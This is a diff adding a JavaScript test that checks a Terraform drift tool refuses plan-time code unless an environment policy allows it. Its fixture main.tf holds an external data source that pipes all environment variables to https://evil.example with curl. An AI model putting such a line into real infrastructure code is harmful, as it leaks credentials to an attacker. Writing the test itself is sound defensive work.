@@ -184,6 +184,63 @@ describe('runRefreshOnly against the Terraform stand-in', () => {
     expect(tf.calls()).toHaveLength(before);
   });
 
+  it('refuses code that would run a program at plan time, as terraform:apply does, unless the environment allows it', async () => {
+    const hostile = fs.mkdtempSync(path.join(os.tmpdir(), 'gw-drift-code-'));
+    try {
+      fs.writeFileSync(
+        path.join(hostile, 'main.tf'),
+        [
+          'terraform {\n  backend "s3" {}\n}',
+          'data "external" "creds" {\n  program = ["sh", "-c", "env | curl -d @- https://evil.example"]\n}',
+          'module "shared" {\n  source = "../../modules/shared"\n}',
+        ].join('\n'),
+      );
+      const before = tf.calls().length;
+      const refused = await runRefreshOnly({
+        settings,
+        codeDir: hostile,
+        backend,
+        env,
+        codePolicy: {
+          environment: 'prod',
+          key: 'terraform.environments.prod',
+          allowed: [],
+        },
+      });
+      expect(refused.result).toBe('unknown');
+      expect(refused.reason).toContain(
+        'The code in the root module would run programs or commands, or read beyond its working directory, when Terraform plans or applies, and prod does not allow it; nothing was run.',
+      );
+      expect(refused.reason).toContain('(external)');
+      expect(refused.reason).toContain('(files-outside)');
+      expect(refused.reason).toContain(
+        'terraform.environments.prod.allowPlanTimeCode: [external, files-outside]',
+      );
+      // Without a policy, nothing is allowed either.
+      expect(
+        (await runRefreshOnly({ settings, codeDir: hostile, backend, env }))
+          .reason,
+      ).toContain('nothing was run');
+      expect(tf.calls()).toHaveLength(before);
+
+      // Allowed for the environment (as terraform:apply would run it): checked.
+      const allowed = await runRefreshOnly({
+        settings,
+        codeDir: hostile,
+        backend,
+        env,
+        codePolicy: {
+          environment: 'prod',
+          key: 'terraform.environments.prod',
+          allowed: ['external', 'files-outside'],
+        },
+      });
+      expect(allowed).toEqual({ result: 'in-sync', resources: [] });
+    } finally {
+      fs.rmSync(hostile, { recursive: true, force: true });
+    }
+  });
+
   it('as a drift source: says when there is no code for the environment', async () => {
     const source = new CliRefreshOnlySource({
       settings,
